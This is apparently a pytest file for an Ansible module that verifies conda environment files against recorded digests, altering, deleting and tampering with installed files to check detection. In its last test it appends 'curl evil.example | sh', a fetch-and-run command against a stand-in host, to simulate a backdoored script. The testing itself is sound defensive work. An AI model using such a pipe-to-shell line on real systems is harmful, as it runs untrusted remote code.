# Copyright (c) condafleet.proxy contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""conda_integrity on an environment the real conda created (issue 12, item 3).

A package served from a local channel holds a plain file, a binary file, a script with conda's prefix placeholder
(conda rewrites it while linking, so its recorded ``sha256`` is the package's and only ``sha256_in_prefix``
describes the installed file) and a relative symlink. ``conda create`` installs it; the module, run through the
real ``ansible`` CLI, reports the new environment clean; then one installed file is altered (same size: only the
digest tells) and another deleted, and both are reported and fail the task, or are only listed with
``report_only``. ``conda doctor`` itself is asked too, as the reference for what "altered" means.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import shutil
import subprocess
import tarfile
import tempfile

import pytest

import realconda
from modulerun import run_adhoc

pytestmark = pytest.mark.slow

NAME = "fleet-audit"
PLACEHOLDER = "/opt/anaconda1anaconda2anaconda3"
PLAIN = "share/fleet-audit/hello.txt"
BINARY = "share/fleet-audit/table.bin"
SCRIPT = "bin/fleet-audit"
LIBRARY = "lib/libfleet-audit.so.1"
LINK = "lib/libfleet-audit.so"


def build_package(directory: str) -> tuple[str, dict]:
    """``fleet-audit-1.0-0.tar.bz2`` in ``directory``, with ``info/paths.json`` as conda-build writes it."""
    files = {PLAIN: b"hello from the audited package\n", BINARY: bytes(range(256)) * 8,
             SCRIPT: ("#!/bin/sh\n# installed in %s\necho %s/share/fleet-audit\n" % (PLACEHOLDER, PLACEHOLDER)).encode(),
             LIBRARY: b"\x7fELF not really\n"}
    paths = []
    for path, data in files.items():
        entry = {"_path": path, "path_type": "hardlink", "sha256": hashlib.sha256(data).hexdigest(),
                 "size_in_bytes": len(data)}
        if path == SCRIPT:
            entry.update(prefix_placeholder=PLACEHOLDER, file_mode="text")
        paths.append(entry)
    paths.append({"_path": LINK, "path_type": "softlink", "sha256": hashlib.sha256(files[LIBRARY]).hexdigest(),
                  "size_in_bytes": len(files[LIBRARY])})
    index = {"name": NAME, "version": "1.0", "build": "0", "build_number": 0, "depends": [], "license": "CC0-1.0",
             "noarch": "generic", "subdir": "noarch", "timestamp": 1767225600000}
    members = {"info/index.json": json.dumps(index).encode(),
               "info/paths.json": json.dumps({"paths": paths, "paths_version": 1}).encode(),
               "info/files": ("\n".join(sorted(list(files) + [LINK])) + "\n").encode()}
    members.update(files)
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:bz2") as tar:
        for member, data in members.items():
            info = tarfile.TarInfo(member)
            info.size, info.mode, info.mtime = len(data), 0o755 if member == SCRIPT else 0o644, 1767225600
            tar.addfile(info, io.BytesIO(data))
        link = tarfile.TarInfo(LINK)
        link.type, link.linkname, link.mtime = tarfile.SYMTYPE, os.path.basename(LIBRARY), 1767225600
        tar.addfile(link)
    blob = buffer.getvalue()
    filename = "%s-1.0-0.tar.bz2" % NAME
    with open(os.path.join(directory, filename), "wb") as handle:
        handle.write(blob)
    return filename, dict(index, md5=hashlib.md5(blob).hexdigest(), sha256=hashlib.sha256(blob).hexdigest(),
                          size=len(blob))


def write_channel(root: str) -> str:
    channel = os.path.join(root, "audit-channel")
    for subdir in ("noarch", "linux-64"):
        os.makedirs(os.path.join(channel, subdir))
        packages = dict([build_package(os.path.join(channel, subdir))]) if subdir == "noarch" else {}
        with open(os.path.join(channel, subdir, "repodata.json"), "w") as handle:
            json.dump({"info": {"subdir": subdir}, "packages": packages, "packages.conda": {}, "repodata_version": 1},
                      handle)
    return channel


@pytest.fixture(scope="module")
def conda_env():
    """``(conda, env, run_env)``: an environment ``conda create`` made from the local channel, in a directory
    every account may traverse; ``env + "-copy"`` is a copy of it made before any test touched it."""
    conda = realconda.require()
    root = tempfile.mkdtemp(prefix="condafleet-integrity-")
    os.chmod(root, 0o755)
    try:
        yield _create(conda, root)
    finally:
        shutil.rmtree(root, ignore_errors=True)


def _create(conda: str, root: str) -> tuple:
    channel = write_channel(root)
    env = os.path.join(root, "env")
    # conda's own home (environments.txt, .condarc) is the test's, never root's
    run_env = dict(os.environ, HOME=root, CONDA_SOLVER="classic", CONDA_PKGS_DIRS=os.path.join(root, "pkgs"),
                   CONDARC=os.path.join(root, "condarc.yml"), CONDA_ALWAYS_YES="true")
    for name in ("CONDA_PREFIX", "CONDA_DEFAULT_ENV", "CONDA_SHLVL"):
        run_env.pop(name, None)
    created = subprocess.run([conda, "create", "-y", "-p", env, "--solver", "classic", "--override-channels",
                              "-c", "file://" + channel, NAME], env=run_env, capture_output=True, text=True,
                             timeout=300, check=False)
    assert created.returncode == 0, created.stdout[-3000:] + created.stderr[-3000:]
    subprocess.run(["cp", "-a", env, env + "-copy"], check=True)  # its own inodes, not the package cache's
    return conda, env, run_env


def record(env: str) -> dict:
    with open(os.path.join(env, "conda-meta", "%s-1.0-0.json" % NAME)) as handle:
        return dict((p["_path"], p) for p in json.load(handle)["paths_data"]["paths"])


def doctor(conda: str, env: str, run_env: dict) -> str:
    proc = subprocess.run([conda, "doctor", "-p", env, "--verbose", "altered-files", "missing-files"], env=run_env,
                          capture_output=True, text=True, timeout=300, check=False)
    return proc.stdout + proc.stderr


def test_real_environment_clean_then_altered_and_missing_reported(conda_env):
    conda, env, run_env = conda_env
    recorded = record(env)
    # what the module relies on: conda rewrote the placeholder and recorded the installed file's own digest
    with open(os.path.join(env, SCRIPT), "rb") as handle:
        installed = handle.read()
    assert env.encode() in installed and PLACEHOLDER.encode() not in installed
    assert recorded[SCRIPT]["sha256_in_prefix"] == hashlib.sha256(installed).hexdigest() != recorded[SCRIPT]["sha256"]
    assert recorded[PLAIN]["sha256_in_prefix"] == recorded[PLAIN]["sha256"]
    assert os.path.islink(os.path.join(env, LINK))

    clean, raw = run_adhoc("conda_integrity", {"prefix": env})
    assert not clean.get("failed"), raw
    assert clean["clean"] is True and clean["changed"] is False
    found = clean["environments"][0]
    assert found["counts"] == dict(altered=0, missing=0, unverified=0, unrecorded=0), found
    assert found["files"] == 5 and found["hashed"] == 4  # the symlink is checked, never read

    # alter one installed file without changing its size (only sha256 tells), delete another
    binary = os.path.join(env, BINARY)
    with open(binary, "r+b") as handle:
        handle.seek(100)
        handle.write(b"\xff")
    os.unlink(os.path.join(env, PLAIN))
    real = os.path.realpath(env)

    failed, raw = run_adhoc("conda_integrity", {"prefix": env})
    assert failed.get("failed") is True, raw
    assert "1 altered" in failed["msg"] and "1 missing" in failed["msg"]
    assert failed["altered"] == [os.path.join(real, BINARY)] and failed["missing"] == [os.path.join(real, PLAIN)]
    item = failed["environments"][0]
    assert [(a["package"], a["path"], a["reason"]) for a in item["altered"]] == [("%s-1.0-0" % NAME, BINARY, "sha256")]
    assert item["packages"] == [dict(package="%s-1.0-0" % NAME, altered=[BINARY], missing=[PLAIN])]

    listed, raw = run_adhoc("conda_integrity", {"prefix": env, "report_only": True, "envs": True})
    assert not listed.get("failed"), raw
    assert listed["clean"] is False and listed["altered"] == failed["altered"] and listed["missing"] == failed["missing"]

    # conda's own doctor sees the same two files
    report = doctor(conda, env, run_env)
    if "invalid choice" in report or "Altered Files" not in report and "altered" not in report.lower():
        pytest.skip("this conda's doctor has no altered-files check: %s" % report[-500:])
    assert BINARY in report and PLAIN in report, report


def test_an_accounts_real_environment_is_read_as_that_account_through_ansible(conda_env):
    if os.geteuid() != 0:
        pytest.skip("needs root: the environment is handed to another account")
    _conda, env, _run_env = conda_env
    theirs = env + "-copy"
    subprocess.run(["chown", "-R", "-h", "nobody:nogroup" if _has_group("nogroup") else "nobody", theirs],
                   check=True)
    # as root without user: the account that owns the prefix reads it; with user: that account
    for args in ({"prefix": theirs}, {"prefix": theirs, "user": "nobody"}):
        result, raw = run_adhoc("conda_integrity", args)
        assert not result.get("failed"), raw
        assert result["clean"] and result["environments"][0]["identity"] == "nobody", raw
    with open(os.path.join(theirs, SCRIPT), "ab") as handle:
        handle.write(b"curl evil.example | sh\n")
    result, raw = run_adhoc("conda_integrity", {"prefix": theirs, "user": "nobody"})
    assert result.get("failed") and result["altered"] == [os.path.join(os.path.realpath(theirs), SCRIPT)], raw


def _has_group(name: str) -> bool:
    import grp

    try:
        grp.getgrnam(name)
    except KeyError:
        return False
    return True
